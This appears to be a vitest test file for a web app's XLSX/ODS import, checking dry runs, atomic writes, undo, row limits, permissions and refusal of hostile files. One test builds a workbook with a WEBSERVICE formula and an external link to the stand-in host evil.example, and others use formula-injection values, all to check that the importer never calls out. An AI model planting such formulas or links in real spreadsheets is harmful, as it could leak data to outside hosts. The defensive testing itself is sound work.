/** Imports from XLSX and ODS: as programs of the staff store them, and refused where they are broken or hostile. */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import type { PresentedRecord } from "#shared/api/record.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createNotice, createNoticeList, createOption } from "../../support/data/factories.ts";
import { HOSTILE_SPREADSHEETS, workbook, workbookOf } from "../../support/data/hostile-spreadsheets.ts";
import { dryRun, importRows, readSheet, refusalsOf, rowsToImport } from "../../support/data/importing.ts";
import { joinContributor } from "../../support/data/people.ts";
import { ANY_DATABASE, openTestSite, type TestSite } from "../../support/server/test-site.ts";

/** What LibreOffice has written of one and the same table, which has a second sheet and three empty rows. */
const saved = (format: string): Promise<Buffer> =>
  readFile(join(import.meta.dirname, "../../support/data/spreadsheets", `libreoffice.${format}`));

const longWorkbook = (rows: number): Buffer =>
  workbookOf([["title"], ...Array.from({ length: rows }, () => ["x"])]);

describe.each(ANY_DATABASE)("an import of a spreadsheet on %s", (kind) => {
  let site: TestSite;
  let address: string;
  beforeAll(async () => {
    site = await openTestSite(kind);
    address = await site.listen();
    await createNoticeList(site, "Sports");
    await createOption(site, "notification", "type", "Arts", { label_kn: "ಕಲೆ" });
  });
  afterAll(() => site.close());

  const notices = async () =>
    (await site.get<PresentedRecord[]>("/api/notification/all", site.token)).body.toSorted(
      (a, b) => a.id - b.id,
    );
  const undo = (receipt: number | null) =>
    site.call<object>("POST", `/api/notification/import/undo/${receipt}`, { token: site.token });

  it.each(["xlsx", "ods"])(
    "takes what LibreOffice has saved as %s: tried, written as a whole, and reverted",
    async (format) => {
      const before = await notices();
      const { status, body } = await readSheet(site, "notification", await saved(format));
      expect({ status, sheets: body.sheets, sheet: body.sheet }).toEqual({
        status: 200,
        sheets: ["ಸೂಚನೆಗಳು", "Remarks"],
        sheet: 0,
      });
      expect(body.rows.map(({ line }) => line)).toEqual([1, 2, 3, 7]);
      const rows = rowsToImport(body);
      const tried = await dryRun(site, "notification", rows);
      expect(refusalsOf(tried.body.fates)).toEqual([]);
      expect(tried.body).toMatchObject({ create: 3, update: 0, same: 0, refuse: 0 });
      expect(await notices()).toEqual(before);

      const refused = await importRows(site, "notification", [...rows, { ...rows[0], udate: "31-02-2026" }]);
      expect(refused).toMatchObject({
        status: 400,
        body: { message: "Nothing was imported: 1 of 4 rows cannot be taken." },
      });
      expect(await notices()).toEqual(before);

      const { body: result } = await importRows(site, "notification", rows);
      expect(result).toMatchObject({ created: 3, updated: 0, same: 0 });
      const ids = (await notices()).slice(-3).map(({ id }) => id);
      const [first, second, third] = await Promise.all(
        ids.map(
          async (id) =>
            (await site.get<PresentedRecord>(`/api/notification/${id}?lang=all`, site.token)).body,
        ),
      );
      expect(first).toMatchObject({
        title: "Fee of the first semester",
        title_kn: "ಮೊದಲ ಸೆಮಿಸ್ಟರ್ ಶುಲ್ಕ",
        udate: "05-03-2026",
        types: [{ label: "Sports" }],
        refNo: "00712",
        active: true,
        publishFrom: "2026-03-06T04:00:00.000Z",
        content: "<p>One line</p>\n<p>ಎರಡನೇ ಸಾಲು</p>",
      });
      expect(second).toMatchObject({
        title: "Results 85",
        udate: "04-03-2026",
        types: [{ label: "Sports" }, { label: "Arts" }],
        refNo: "2026",
        active: false,
        publishFrom: null,
        content: `<p>${"A long text that goes on. ".repeat(800)}</p>`,
      });
      expect(third).toMatchObject({
        title: '=HYPERLINK("x")',
        title_kn: "'ಉಲ್ಲೇಖ",
        udate: "31-12-1999",
        refNo: "-5",
      });
      expect((await undo(result.receipt)).body).toEqual({ removed: 3, reverted: 0, left: [] });
      expect(await notices()).toEqual(before);
    },
  );

  it.each(["xlsx", "ods"])("finds unchanged what the list exports as %s", async (format) => {
    const own = await createNoticeList(site, `Again ${format}`);
    const id = await createNotice(site, own, {
      title: "=1+1",
      title_kn: "'ಮತ್ತೆ\u00a0ಶುಲ್ಕ",
      refNo: "007",
      content: "<p>One</p>\n<p>two  words</p>",
      publishFrom: "2026-03-01T04:30:00Z",
    });
    const columns = "id,title,udate,type,refNo,active,publishFrom,content";
    const answer = await fetch(
      `${address}/api/notification/export?format=${format}&columns=${columns}&filter=id:is:${id}`,
      { headers: { authorization: `Bearer ${site.token}` } },
    );
    const { body } = await readSheet(site, "notification", Buffer.from(await answer.arrayBuffer()));
    const names = ["id", "title", "title_kn", "udate", "type", "refNo", "active", "publishFrom"];
    body.rows[0]!.cells = [...names, "content", "content_kn"];
    const rows = rowsToImport(body);
    expect(rows).toHaveLength(1);
    expect((await dryRun(site, "notification", rows)).body).toMatchObject({ same: 1, update: 0, refuse: 0 });
    rows[0]!.refNo = "008";
    expect((await dryRun(site, "notification", rows)).body).toMatchObject({ same: 0, update: 1 });
  });

  it("reads the sheet that is asked for, formulas as their values, and asks nobody outside", async () => {
    const bytes = await saved("xlsx");
    const second = await readSheet(site, "notification", bytes, { query: "?sheet=1" });
    expect(second.body).toMatchObject({ sheet: 1, rows: [{ line: 1, cells: ["of nobody's concern"] }] });
    expect((await readSheet(site, "notification", bytes, { query: "?sheet=2" })).status).toBe(404);
    expect((await readSheet(site, "notification", bytes, { query: "?sheet=x" })).status).toBe(400);
    const linked = workbook(
      '<row r="1"><c r="A1" t="str"><f>[1]Other!A1</f><v>kept</v></c><c r="B1"><f>WEBSERVICE("http://evil.example")</f><v>7</v></c></row>',
      {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels":
          '<Relationships><Relationship Id="rId1" TargetMode="External" Target="http://evil.example/book.xlsx"/></Relationships>',
      },
    );
    expect((await readSheet(site, "notification", linked)).body.rows).toEqual([
      { line: 1, cells: ["kept", "7"] },
    ]);
  });

  it.each(HOSTILE_SPREADSHEETS)("is refused where the file $what", async ({ bytes, says }) => {
    const before = await notices();
    const { status, body } = await readSheet(site, "notification", bytes());
    expect({ status, message: body.message }).toEqual({ status: expect.any(Number), message: says });
    expect([400, 413]).toContain(status);
    expect(await notices()).toEqual(before);
  });

  it("is refused with more rows than are taken, and counts those with something in them", async () => {
    const refused = await readSheet(site, "notification", longWorkbook(25_001));
    expect(refused).toMatchObject({
      status: 413,
      body: { message: "This sheet has more than 25000 rows, which can be imported at a time." },
    });
    const { status, body } = await readSheet(site, "notification", longWorkbook(25_000));
    expect({ status, rows: body.rows.length }).toEqual({ status: 200, rows: 25_001 });
  });

  it("is for those who may write the table, and says so in their language", async () => {
    const bytes = workbookOf([["title"], ["x"]]);
    const { token: contributor } = await joinContributor(site, "sheet.clerk", ["announcement"]);
    expect((await readSheet(site, "announcement", bytes, { token: contributor })).status).toBe(200);
    expect((await readSheet(site, "notification", bytes, { token: contributor })).status).toBe(403);
    expect((await readSheet(site, "nosuch", bytes)).status).toBe(404);
    expect((await readSheet(site, "notification", bytes, { token: "nobody" })).status).toBe(401);
    const kannada = await readSheet(site, "notification", "no sheet", { query: "?lang=kn" });
    expect(kannada.status).toBe(400);
  });
});
